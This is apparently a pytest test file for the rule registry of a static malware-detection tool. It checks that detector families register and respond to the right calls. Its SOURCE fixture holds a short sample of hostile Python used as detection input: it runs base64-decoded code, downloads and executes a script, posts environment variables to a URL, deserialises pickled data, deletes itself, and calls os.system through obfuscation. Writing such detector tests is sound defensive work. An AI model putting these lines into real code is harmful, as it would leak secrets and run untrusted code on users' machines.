"""Every family of rules is registered, and sees the calls that it takes."""

from pathlib import Path

import pytest

from features.code.detect import registry
from features.code.detect.contract import CallSite, Detection, Detector, FileContext
from features.code.detect.registry import DETECTORS, FileDetectors
from features.code.detect.rules import SYNTAX_RULES
from features.code.evaluate.acting_functions import ActingFunctions
from features.code.evaluate.api_behaviours import BEHAVIOURS, find_behaviours
from features.code.evaluate.dataflow import DataFlow
from features.code.evaluate.indirect_calls import INDIRECT_RULES
from features.code.parse.symbol_table import CONDITION_UNIT
from features.contract import Role
from tests.features.code.conftest import build_resolver, last_call

NO_FAMILIES = {"__init__", "contract", "registry", "rules"}
FOUND_ELSEWHERE = {"offscreen_code", "unpacked_code", *INDIRECT_RULES}
"""Rules of the layout of a text, of hidden code and of indirect calls, which no written call matches."""


def test_every_family_on_disk_is_registered():
    there = {path.stem for path in Path(registry.__file__).parent.glob("*.py")} - NO_FAMILIES
    assert there == {detector.__module__.rpartition(".")[2] for detector in DETECTORS}


def test_every_rule_belongs_to_one_detector():
    rules = [rule for detector in DETECTORS for rule in detector.rules]
    assert sorted([*rules, *FOUND_ELSEWHERE]) == sorted(rule.id for rule in SYNTAX_RULES)


def test_detectors_take_behaviours_that_exist():
    known = {behaviour.id for behaviour in BEHAVIOURS}
    assert all(detector.behaviours <= known for detector in DETECTORS)


def make_context(source: str) -> FileContext:
    resolver = build_resolver(source)
    return FileContext(resolver, DataFlow(resolver), ActingFunctions(resolver), Role.REST)


def make_site(name: str, flags: int = 0) -> tuple[CallSite, FileContext]:
    context = make_context("result()")
    call, scope = last_call(context.resolver)
    return CallSite(call, scope, scope, flags, name, find_behaviours(name), runs=False), context


class Recorder(Detector):
    """Reports each call that it is given."""

    rules = ("recorded",)
    behaviours = frozenset(("execute_process",))

    def check_call(self, site: CallSite) -> tuple[Detection, ...]:
        return (site.match("recorded", 0.5),)

    def check_file(self) -> tuple[Detection, ...]:
        return (Detection("recorded", self.resolver.symbols.scopes[0].node, 0),)


class ConditionalRecorder(Recorder):
    """Reports calls below a condition too."""

    takes_conditional_calls = True


@pytest.mark.parametrize(("name", "expected"), [("os.system", 1), ("open.read", 0), ("unknown", 0)])
def test_a_detector_sees_calls_with_its_behaviours(monkeypatch, name, expected):
    monkeypatch.setattr(registry, "DETECTORS", (Recorder,))
    site, context = make_site(name)
    assert len(list(FileDetectors(context).check_call(site))) == expected


def test_a_detector_of_conditions_sees_calls_without_behaviours(monkeypatch):
    monkeypatch.setattr(registry, "DETECTORS", (Recorder, ConditionalRecorder))
    site, context = make_site("unknown", CONDITION_UNIT)
    assert list(FileDetectors(context).check_call(site)) == [Detection("recorded", site.call, site.unit, 0.5)]


def test_detectors_answer_in_the_order_of_the_registry(monkeypatch):
    class Second(Recorder):
        def check_call(self, site: CallSite) -> tuple[Detection, ...]:
            return (site.match("second"),)

    monkeypatch.setattr(registry, "DETECTORS", (Second, Recorder))
    site, context = make_site("os.system")
    detectors = FileDetectors(context)
    assert [detection.rule for detection in detectors.check_call(site)] == ["second", "recorded"]
    assert [detection.rule for detection in detectors.check_file()] == ["recorded", "recorded"]


def test_a_detector_may_have_no_rules_for_calls_or_for_files():
    site, context = make_site("os.system")
    detector = Detector(context)
    assert (list(detector.check_call(site)), list(detector.check_file())) == ([], [])


SOURCE = """
import base64, os, pickle, requests, subprocess, json
def act():
    os.system('id')
json.dumps = act
if os.name == 'nt':
    exec(base64.b64decode(x))
open('x.sh', 'wb').write(requests.get(u).content)
subprocess.run(['sh', 'x.sh'], start_new_session=True)
requests.post(u, data=os.environ)
pickle.loads(base64.b64decode(y))
os.remove(__file__)
run = exec
run(getattr(os, 'sys' + 'tem'))
"""


def test_detectors_return_their_own_rules_alone():
    context = make_context(SOURCE)
    found = set()
    for make in DETECTORS:
        detector = make(context)
        for call, scope, flags in context.resolver.symbols.calls:
            name = context.resolver.dotted_name(call.func, scope)
            site = CallSite(call, scope, scope, flags, name, find_behaviours(name), runs=True)
            matched = {detection.rule for detection in detector.check_call(site)}
            assert matched <= set(detector.rules)
            found |= matched
        matched = {detection.rule for detection in detector.check_file()}
        assert matched <= set(detector.rules)
        found |= matched
    assert len(found) >= 12
